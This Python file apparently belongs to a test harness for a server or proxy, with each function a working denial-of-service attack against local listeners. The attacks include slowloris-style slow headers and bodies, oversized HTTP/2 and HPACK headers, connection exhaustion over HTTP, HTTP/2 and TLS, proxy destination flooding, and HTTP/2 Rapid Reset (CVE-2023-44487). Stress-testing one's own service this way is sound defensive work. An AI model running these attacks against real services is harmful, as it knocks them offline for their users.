"""What an attacker does, a function each: it takes the ports of the listeners and goes on until it is ended.

Each has its own process, and as many descriptors as the machine gives it.
"""
import asyncio
import itertools
import ssl

import frames

HEAD = b"GET %s HTTP/1.1\r\nHost: service\r\n"


async def opened(port, count, speak, host="127.0.0.1", tls=None):
    """`count` connections at a time, for ever: one that ends is opened again."""
    once = asyncio.Semaphore(256)  # handshakes at a time

    async def one(number):
        while True:
            writer = None
            try:
                async with once:
                    reader, writer = await asyncio.open_connection(host, port, ssl=tls)
                await speak(reader, writer, number)
            except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
                await asyncio.sleep(0.2)
            finally:
                if writer:
                    writer.transport.abort()

    await asyncio.gather(*(one(i) for i in range(count)))


async def read_away(reader):
    while await reader.read(65536):
        pass


async def drip(reader, writer, bytes_each=b"x"):
    gone = asyncio.ensure_future(read_away(reader))
    while not gone.done():
        writer.write(bytes_each)
        await asyncio.wait([gone], timeout=1)


def streams(blocks, end=True, **settings):
    async def speak(reader, writer, _):
        writer.write(frames.PREFACE + frames.settings(**settings))
        for number, block in zip(itertools.count(1, 2), blocks()):
            writer.write(frames.section(number, block, end))
            await writer.drain()
        await read_away(reader)

    return speak


async def shut_windows(ports):
    """Big responses on streams whose windows stay shut."""
    await opened(ports["h2"], 40, streams(lambda: (frames.request(b"/big") for _ in range(1000)), window=0))


async def hpack_references(ports):
    """Fields of 4 KB, a byte each on the wire."""

    def blocks():
        yield frames.request(b"/hold", extra=frames.literal(b"x", b"v" * 3900, True))
        for _ in range(999):
            yield frames.request(b"/hold", extra=b"\xbe" * 60)

    await opened(ports["h2"], 20, streams(blocks))


async def large_heads_h2(ports):
    """Heads of 250 KB, of requests that are not answered."""
    fields = b"".join(frames.literal(b"x-%d" % i, b"v" * 4000) for i in range(60))
    await opened(ports["h2"], 100, streams(lambda: (frames.request(b"/hold", extra=fields) for _ in range(100))))


async def large_heads(ports):
    head = HEAD % b"/hold" + b"".join(b"X-%d: %s\r\n" % (i, b"v" * 4000) for i in range(60)) + b"\r\n"

    async def speak(reader, writer, _):
        writer.write(head)
        await read_away(reader)

    await opened(ports["h1"], 4000, speak)


async def slow_heads(ports):
    """The most that a head may have, but for its end."""

    async def speak(reader, writer, _):
        writer.write(HEAD % b"/small" + b"".join(b"X-%d: %s\r\n" % (i, b"v" * 4000) for i in range(60)) + b"X: ")
        await drip(reader, writer)

    await opened(ports["h1"], 4000, speak)


async def many_fields(ports):
    """Fields of three bytes."""

    async def speak(reader, writer, _):
        writer.write(HEAD % b"/hold" + b"a:\r\n" * 900 + b"\r\n")
        await read_away(reader)

    await opened(ports["h1"], 8000, speak)


async def slow_bodies(ports):
    async def speak(reader, writer, _):
        writer.write(b"POST /sink HTTP/1.1\r\nHost: service\r\nContent-Length: 1000000\r\n\r\n")
        await drip(reader, writer)

    await opened(ports["h1"], 15000, speak)


async def bodies_nobody_reads(ports):
    """Uploads to a service that reads none of them."""

    async def speak(reader, writer, _):
        writer.write(b"POST /sink HTTP/1.1\r\nHost: service\r\nContent-Length: 9000000\r\n\r\n")
        gone = asyncio.ensure_future(read_away(reader))
        while not gone.done():
            writer.write(b"x" * 65536)
            await asyncio.wait([gone, asyncio.ensure_future(writer.drain())], return_when=asyncio.FIRST_COMPLETED)

    await opened(ports["h1"], 1000, speak)


async def slow_readers(ports):
    """Big responses that are not read."""

    async def speak(reader, writer, _):
        reader._limit = 1024  # asyncio then stops reading
        writer.write(HEAD % b"/big" + b"\r\n")
        await asyncio.sleep(3600)

    await opened(ports["h1"], 1000, speak)


async def idle(ports):
    async def speak(reader, writer, _):
        await read_away(reader)

    await opened(ports["h1"], 19000, speak)


async def idle_after_a_request(ports):
    async def speak(reader, writer, _):
        writer.write(HEAD % b"/small" + b"\r\n")
        await read_away(reader)

    await opened(ports["h1"], 19000, speak)


async def idle_h2(ports):
    await opened(ports["h2"], 9000, streams(lambda: [frames.request(b"/small")]))


async def idle_tls(ports):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE

    async def speak(reader, writer, _):
        writer.write(HEAD % b"/small" + b"\r\n")
        await read_away(reader)

    await opened(ports["h1"], 9000, speak, tls=context)


async def destinations(ports):
    """20,000 of them, through the forward proxy."""
    numbers = itertools.cycle(range(20000))

    async def speak(reader, writer, _):
        while True:
            n = next(numbers)
            host = b"127.1.%d.%d:%d" % (n // 250 + 1, n % 250 + 1, ports["service"])
            writer.write(b"GET http://%s/small HTTP/1.1\r\nHost: %s\r\n\r\n" % (host, host))
            await reader.readuntil(b"ok")

    await opened(ports["forward"], 64, speak)


async def resets(ports):
    """Streams that are reset at once (CVE-2023-44487)."""

    async def speak(reader, writer, _):
        writer.write(frames.PREFACE + frames.settings())
        gone = asyncio.ensure_future(read_away(reader))
        for number in itertools.count(1, 2):
            writer.write(frames.section(number, frames.request(b"/hold")))
            writer.write(frames.frame(frames.RST_STREAM, 0, number, b"\0\0\0\x08"))
            if number % 200 == 1:
                await writer.drain()
                await asyncio.sleep(0)
            if gone.done():
                return

    await opened(ports["h2"], 100, speak)


ALL = [shut_windows, hpack_references, large_heads_h2, large_heads, slow_heads, many_fields, slow_bodies,
       bodies_nobody_reads, slow_readers, idle, idle_after_a_request, idle_h2, idle_tls, destinations, resets]

if __name__ == "__main__":
    import json
    import resource
    import sys

    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    name, ports = sys.argv[1], json.loads(sys.argv[2])
    asyncio.run(next(a for a in ALL if a.__name__ == name)(ports))
